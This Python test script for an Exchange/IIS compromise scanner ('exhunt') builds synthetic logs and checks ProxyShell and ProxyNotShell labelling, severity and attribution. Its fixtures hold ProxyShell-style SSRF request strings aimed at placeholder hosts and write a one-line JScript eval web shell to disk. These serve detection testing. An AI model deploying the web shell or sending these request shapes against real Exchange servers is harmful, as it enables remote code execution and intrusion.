#!/usr/bin/env python3
"""Labels that agree with the evidence (issue 13, item 6), end to end through the CLI.

Small server trees, each with the IIS lines of one question, scanned with `-f jsonl`:

  * Sigma's original conditions kept: SigmaHQ's IIS Reset-VirtualDirectory rule requires a
    machine account (`cs-username` ending in `$`, the SSRF's identity in the back end's log);
    an administrator's reset through the ECP is not a critical finding;
  * a ProxyShell-shaped request against a build that exhunt itself reports as patched for
    ProxyShell (an OWA build folder of Exchange 2016 CU21) is ProxyNotShell
    (CVE-2022-41040/-41082) when the request is authenticated, and an attempt otherwise; the
    verdict's reason leads with the campaign the evidence supports; the same request on a
    vulnerable build (CU19) stays ProxyShell;
  * the server's own addresses are not attackers: loopback, the `s-ip` of the server's IIS
    lines and the `c-ip` of back-end (port 444) lines never appear as a finding's client, an
    actor or in a story; when the line carries the original client (X-Forwarded-For), the
    finding is attributed to it.

usage: labels.py EXHUNT WORKDIR
"""
import json
import os
import shutil
import subprocess
import sys

EXHUNT, WORK = sys.argv[1:3]
failures = []

IIS_HEAD = ("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
            "#Date: 2022-10-10 00:00:00\r\n")
FIELDS = ("#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
          "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
FIELDS_XFF = FIELDS + " X-Forwarded-For"
EXV15 = "C/Program Files/Microsoft/Exchange Server/V15"
RULE_RESETVDIR = "026b8d48-d3d1-43fb-aa89-2e2c14e3f7ae"
RULE_PROXYSHELL_OK = "239d44ac-15d7-492a-b0af-16e7a29fb96a"
RULE_PROXYNOTSHELL = "d56fd78e-5721-4faa-97c9-6f3d92a3dc85"


def fail(msg):
    failures.append(msg)
    print("FAIL:", msg)


def tree(name, sites, build=None):
    """sites: {"W3SVC1": (fields, [lines])}; build: an OWA build folder name."""
    root = os.path.join(WORK, name)
    shutil.rmtree(root, ignore_errors=True)
    for site, (fields, lines) in sites.items():
        d = os.path.join(root, "C/inetpub/logs/LogFiles", site)
        os.makedirs(d)
        with open(os.path.join(d, "u_ex221010.log"), "w", newline="") as f:
            f.write(IIS_HEAD + fields + "\r\n" + "".join(l + "\r\n" for l in lines))
    if build:
        d = os.path.join(root, EXV15, "FrontEnd/HttpProxy/owa/auth", build, "themes")
        os.makedirs(d)
        with open(os.path.join(d, "logon.css"), "w") as f:
            f.write("body{}\n")
    return root


def scan(root):
    p = subprocess.run([EXHUNT, "scan", "--no-progress", "-j", "1", "-f", "jsonl", root],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
    out = {"findings": [], "verdict": None, "actors": [], "campaigns": {}}
    for line in p.stdout.decode("utf-8", "replace").splitlines():
        o = json.loads(line)
        ev = o.get("event", {})
        if ev.get("kind") == "alert":
            out["findings"].append(o)
            continue
        ds = ev.get("dataset", "")
        if ds == "exhunt.verdict":
            out["verdict"] = o
            for c in o.get("exhunt", {}).get("campaigns", []):
                out["campaigns"][c.get("name")] = c.get("state")
        elif ds == "exhunt.attacker":
            out["actors"].append(o)
    out["raw"] = p.stdout.decode("utf-8", "replace")
    return out


def level(f):
    return f["exhunt"]["level"]


def of_rule(res, rid):
    return [f for f in res["findings"] if f["rule"]["id"] == rid]


def cves(f):
    return f.get("vulnerability", {}).get("id", [])


def client(f):
    return f.get("source", {}).get("ip")


def iis(t, method, stem, query, port, user, cip, ua, status, sip="10.0.0.5", xff=None):
    line = " ".join(["2022-10-10", t, sip, method, stem, query or "-", str(port), user or "-", cip, ua, "-",
                     str(status), "0", "0", "100"])
    return line + (" " + xff if xff is not None else "")


# ---- Sigma's original conditions: Reset-VirtualDirectory needs the machine account ----------
RESET_Q = "msExchEcpCanary=Wk3aDn5vE0qZf8&schema=ResetOABVirtualDirectory"
r = scan(tree("resetvdir", {"W3SVC2": (FIELDS, [
    iis("10:00:00", "POST", "/ecp/DDI/DDIService.svc/SetObject", RESET_Q, 444, "CONTOSO\\admin", "10.0.0.5",
        "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)", 200),
    iis("11:00:00", "POST", "/ecp/DDI/DDIService.svc/SetObject", RESET_Q, 444, "EXCH01$", "10.0.0.5",
        "python-requests/2.25.1", 200),
])}))
hits = of_rule(r, RULE_RESETVDIR)
if len(hits) != 1 or "EXCH01$" not in hits[0]["exhunt"]["evidence"]:
    fail("Reset-VirtualDirectory: want one finding, on the machine account's line; got %s"
         % [h["exhunt"]["evidence"] for h in hits])
if any("CONTOSO\\admin" in f["exhunt"]["evidence"] and level(f) in ("high", "critical") for f in r["findings"]):
    fail("an administrator's virtual directory reset is a high or critical finding")

# ---- ProxyShell shapes on a build patched for ProxyShell ---------------------------------------
# Exchange 2016 CU21 (15.1.2308.8): after ProxyShell's April/May 2021 fixes, before ProxyNotShell's
# November 2022 fix. CU19 (15.1.2176.2): vulnerable to both.
PS_Q = ("@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCAAAAA&Email=autodiscover/autodiscover.json"
        "%3F@evil.corp")
PS_LINES = [
    iis("09:00:00", "POST", "/autodiscover/autodiscover.json", PS_Q, 443, "CONTOSO\\mailuser", "45.77.12.9",
        "python-requests/2.28.1", 200),
    iis("09:05:00", "POST", "/autodiscover/autodiscover.json", PS_Q, 443, None, "45.77.12.10",
        "python-requests/2.28.1", 200),
]
r = scan(tree("patched", {"W3SVC1": (FIELDS, PS_LINES)}, build="15.1.2308.8"))
hits = of_rule(r, RULE_PROXYSHELL_OK)
auth = [h for h in hits if client(h) == "45.77.12.9"]
anon = [h for h in hits if client(h) == "45.77.12.10"]
if len(auth) != 1 or cves(auth[0]) != ["CVE-2022-41040", "CVE-2022-41082"] or level(auth[0]) != "critical":
    fail("patched build, authenticated ProxyShell shape: want critical CVE-2022-41040/-41082, got %s"
         % [(cves(h), level(h)) for h in auth])
elif "ProxyNotShell" not in auth[0]["message"]:
    fail("the relabelled finding's message does not say ProxyNotShell: %s" % auth[0]["message"])
if len(anon) != 1 or level(anon[0]) != "medium" or "CVE-2021-34473" not in cves(anon[0]):
    fail("patched build, anonymous ProxyShell shape: want a medium ProxyShell attempt, got %s"
         % [(cves(h), level(h)) for h in anon])
reason = (r["verdict"] or {}).get("exhunt", {}).get("reason", "")
if not reason.startswith("successful exploitation traces of ProxyNotShell") or "CVE-2021-34473" in reason:
    fail("patched build: the verdict's reason does not lead with ProxyNotShell: %s" % reason)
if r["campaigns"].get("ProxyNotShell") != "compromised" or r["campaigns"].get("ProxyShell") != "attempted":
    fail("patched build: want ProxyNotShell compromised, ProxyShell attempted; got %s" % r["campaigns"])
if r["campaigns"].get("OWASSRF") == "compromised":
    fail("patched build: a ProxyNotShell finding made OWASSRF compromised")

# GTSC's published ProxyNotShell lines show no user ('-') and no X-Rps-CAT token: the ProxyNotShell
# rule's own finding (high) stands, and the ProxyShell rule leaves that shape to it (a /powershell
# target without the token is not ProxyShell's, rules/web/iis_proxyshell_success.yml)
GTSC_Q = "@evil.com/powershell/?&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell"
r = scan(tree("patched-gtsc", {"W3SVC1": (FIELDS, [
    iis("09:00:00", "GET", "/autodiscover/autodiscover.json", GTSC_Q, 443, None, "45.77.12.11", "Mozilla/5.0+zgrab/0.x", 200),
])}, build="15.1.2308.8"))
pns = of_rule(r, RULE_PROXYNOTSHELL)
ps = of_rule(r, RULE_PROXYSHELL_OK)
if len(pns) != 1 or level(pns[0]) != "high" or len(ps) != 0:
    fail("patched build, GTSC's anonymous line: want ProxyNotShell high and no ProxyShell finding, got %s %s"
         % ([level(h) for h in pns], [level(h) for h in ps]))
if r["campaigns"].get("ProxyNotShell") != "compromised":
    fail("patched build, GTSC's anonymous line: ProxyNotShell is %s" % r["campaigns"].get("ProxyNotShell"))

r = scan(tree("vulnerable", {"W3SVC1": (FIELDS, PS_LINES)}, build="15.1.2176.2"))
hits = of_rule(r, RULE_PROXYSHELL_OK)
if len(hits) != 2 or any(level(h) != "critical" or "CVE-2021-34473" not in cves(h) for h in hits):
    fail("vulnerable build: the ProxyShell findings changed: %s" % [(cves(h), level(h)) for h in hits])
reason = (r["verdict"] or {}).get("exhunt", {}).get("reason", "")
if not reason.startswith("successful exploitation traces of ProxyShell"):
    fail("vulnerable build: the reason does not lead with ProxyShell: %s" % reason)

# the build at the request's time: an Exchange log whose #Version names a build vulnerable to
# ProxyShell at or after the request means the server was patched later: not relabelled; a
# vulnerable build seen only before the request changes nothing
HP_FIELDS = "DateTime,ClientIpAddress,UrlStem,HttpStatus"


def with_version(name, version, when):
    root = tree(name, {"W3SVC1": (FIELDS, PS_LINES)}, build="15.1.2308.8")
    d = os.path.join(root, EXV15, "Logging/HttpProxy/Owa")
    os.makedirs(d)
    with open(os.path.join(d, "HttpProxy_2022101000-1.LOG"), "w", newline="") as f:
        f.write("#Software: Microsoft Exchange Server\r\n#Version: %s\r\n#Log-type: HttpProxy Logs\r\n"
                "#Date: %s\r\n#Fields: %s\r\n%s,10.1.2.3,/owa/,200\r\n" % (version, when, HP_FIELDS, when))
    return root


r = scan(with_version("patched-later", "15.01.2176.002", "2022-10-10T12:00:00.000Z"))
hits = of_rule(r, RULE_PROXYSHELL_OK)
if len(hits) != 2 or any(level(h) != "critical" or "CVE-2021-34473" not in cves(h) for h in hits):
    fail("a vulnerable build logged after the request: the ProxyShell findings were relabelled: %s"
         % [(cves(h), level(h)) for h in hits])
r = scan(with_version("patched-before", "15.01.2176.002", "2022-10-09T12:00:00.000Z"))
hits = of_rule(r, RULE_PROXYSHELL_OK)
if sorted(level(h) for h in hits) != ["critical", "medium"]:
    fail("a vulnerable build logged only before the request: want the relabelling, got %s"
         % [(cves(h), level(h)) for h in hits])

# ---- the server's own addresses are not attackers -------------------------------------------
OWN = "10.0.0.5"
r = scan(tree("hops", {
    "W3SVC1": (FIELDS_XFF, [
        iis("08:00:00", "POST", "/owa/auth/x.js", None, 443, None, "127.0.0.1", "python-requests/2.25.1", 200,
            xff="203.0.113.7"),
        iis("08:01:00", "POST", "/aspnet_client/system_web/a1.aspx", None, 443, None, "::1",
            "python-requests/2.25.1", 200, xff="-"),
        iis("08:02:00", "POST", "/aspnet_client/system_web/a2.aspx", None, 443, None, "198.51.100.9",
            "python-requests/2.25.1", 200, xff="-"),
    ]),
    "W3SVC2": (FIELDS, [
        iis("08:03:00", "POST", "/ecp/DDI/DDIService.svc/SetObject", RESET_Q, 444, "EXCH01$", OWN,
            "python-requests/2.25.1", 200),
        iis("08:04:00", "POST", "/ecp/y.js", None, 443, None, OWN, "python-requests/2.25.1", 200),
    ]),
}))
shell = os.path.join(WORK, "hops", "C/inetpub/wwwroot/aspnet_client/system_web/a1.aspx")
os.makedirs(os.path.dirname(shell))
with open(shell, "w") as f:
    f.write('<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>')
r = scan(os.path.join(WORK, "hops"))
own = {OWN, "127.0.0.1", "::1"}
stories = [f["exhunt"]["story"] for f in r["findings"] if "story" in f.get("exhunt", {})]
if not any("a1.aspx" in st and "the server itself (::1" in st for st in stories):
    fail("the story of a shell requested through loopback does not say so: %s" % stories)
for f in r["findings"]:
    if client(f) in own:
        fail("a finding names the server's own address %s as its client: %s" % (client(f), f["message"]))
    st = f.get("exhunt", {}).get("story", "")
    if any(("from " + a) in st or ("by " + a) in st for a in own):
        fail("a story names the server's own address as a client: %s" % st)
for a in r["actors"]:
    if a["source"]["ip"] in own:
        fail("the server's own address %s is an attacker" % a["source"]["ip"])
if not any(a["source"]["ip"] == "203.0.113.7" for a in r["actors"]):
    fail("the original client (X-Forwarded-For 203.0.113.7) is not an attacker: %s"
         % [a["source"]["ip"] for a in r["actors"]])
if not any(a["source"]["ip"] == "198.51.100.9" for a in r["actors"]):
    fail("a real client was dropped from the attackers")
hops = [f for f in r["findings"] if f.get("exhunt", {}).get("hop_ip") in own]
if len(hops) < 4:
    fail("want the findings through the server's own addresses kept with their hop; got %d" % len(hops))
if r["verdict"]["exhunt"]["verdict"] != "compromised":
    fail("findings through the server's own addresses no longer count: %s" % r["verdict"]["exhunt"]["verdict"])
if any(a in r["verdict"]["exhunt"]["reason"] for a in own):
    fail("the verdict's reason names the server's own address")

# a server with two addresses: 10.0.0.5 is learned from the s-ip of the site's lines that gave no
# finding (the first record of each IIS log), so a finding whose client it is on the other
# address's site is not an attacker's
r = scan(tree("multihomed", {
    "W3SVC1": (FIELDS, [
        iis("07:00:00", "GET", "/owa/", None, 443, "CONTOSO\\user1", "10.3.2.1", "Mozilla/5.0", 200, sip=OWN),
    ]),
    "W3SVC2": (FIELDS, [
        iis("07:05:00", "POST", "/ecp/y.js", None, 443, None, OWN, "python-requests/2.25.1", 200, sip="192.168.7.5"),
    ]),
}))
if any(a["source"]["ip"] == OWN for a in r["actors"]):
    fail("the server's address learned from a log without findings is an attacker")
if not of_rule(r, "a530a6ed-ceef-40db-b3cd-e6bdd986f5a2"):
    fail("multihomed: the HAFNIUM shape was not found at all")

print("labels: %d failure(s)" % len(failures))
sys.exit(1 if failures else 0)
